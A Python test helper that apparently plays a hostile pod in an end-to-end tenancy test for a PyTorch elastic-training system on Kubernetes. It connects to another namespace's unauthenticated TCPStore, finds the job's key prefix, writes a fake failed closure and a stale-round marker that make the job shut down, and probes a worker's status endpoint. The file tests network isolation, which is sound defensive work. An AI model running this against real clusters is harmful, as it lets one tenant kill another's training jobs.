"""A hostile pod's program: disturb another namespace's job through its c10d store.

Run by tests/e2e/test_tenancy.py in a pod of a namespace of its own, with no
RBAC at all, as ``python tests/e2e/attacker.py STORE_IP WORKER_IP``. It does
what issue 13 reproduced: connect to the victim's store (torch's TCPStore, no
authentication), find the job's key prefix with ``list_keys()``, mark the job
closed as failed and the running round stale (so every agent re-forms, reads
the closure and gives up). It also asks a worker's agent for ``GET /status``.

With ``--probe`` it only reads: the same connections, the key prefix found,
nothing written (the test runs it as a pod the job's NetworkPolicy admits, to
show the policy still lets the job's own pods in). ``--timeout`` is how long
it keeps trying to connect (a new pod is admitted once the enforcer has seen
its address).

What it managed is written as JSON to the termination message (and stdout);
exit 0 when it wrote into the store (``--probe``: read from it), 3 when the
store could not be reached.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime
import json
import sys
import urllib.request
from pathlib import Path

from torchflex_contract import env
from torchflex_contract.store_keys import CURRENT_ROUND, JOB_CLOSED, ROUND, STALE

CONNECT_TIMEOUT_S = 8.0
MESSAGE = "closed by a pod of another namespace"


def attack_store(host: str, timeout_s: float, write: bool) -> dict[str, object]:
    # Imported here: the test imports MESSAGE from this module without paying for torch.
    from torch._C._distributed_c10d import TCPStore

    try:
        # The client retries a refused connection until the timeout.
        store = TCPStore(
            host,
            env.DEFAULT_STORE_PORT,
            is_master=False,
            wait_for_workers=False,
            timeout=datetime.timedelta(seconds=timeout_s),
        )
    except (RuntimeError, OSError) as exc:  # torch's DistNetworkError/DistStoreError
        return {"store": "unreachable", "error": str(exc).splitlines()[0][:300]}
    keys = [k for k in store.list_keys() if k.endswith("/" + CURRENT_ROUND)]
    if not keys:
        return {"store": "connected", "error": "no rendezvous yet"}
    prefix = keys[0][: -len(CURRENT_ROUND) - 1]
    round_no = int(store.get(keys[0]).decode())
    if not write:
        return {"store": "read", "prefix": prefix, "round": round_no}
    closure = {"outcome": "failed", "message": MESSAGE}
    store.set(f"{prefix}/{JOB_CLOSED}", json.dumps(closure))
    stale = {"reason": "attack", "by": "attacker", "detail": MESSAGE}
    store.set(f"{prefix}/{ROUND}/{round_no}/{STALE}", json.dumps(stale))
    return {"store": "written", "prefix": prefix, "round": round_no}


def ask_agent(host: str) -> dict[str, object]:
    url = f"http://{host}:{env.DEFAULT_HEALTH_PORT}/status"
    try:
        with urllib.request.urlopen(url, timeout=CONNECT_TIMEOUT_S) as resp:
            return {"agent_status": resp.status}
    except OSError as exc:
        return {"agent_status": "unreachable", "agent_error": str(exc)[:300]}


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="attacker.py")
    parser.add_argument("store_ip")
    parser.add_argument("worker_ip")
    parser.add_argument("--probe", action="store_true", help="read only: write nothing")
    parser.add_argument("--timeout", type=float, default=CONNECT_TIMEOUT_S)
    args = parser.parse_args(argv)
    found = {
        **attack_store(args.store_ip, args.timeout, write=not args.probe),
        **ask_agent(args.worker_ip),
    }
    report = json.dumps(found, sort_keys=True)
    print(report, flush=True)
    with contextlib.suppress(OSError):  # outside a pod: stdout is enough
        Path("/dev/termination-log").write_text(report)
    return 0 if found.get("store") == ("read" if args.probe else "written") else 3


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
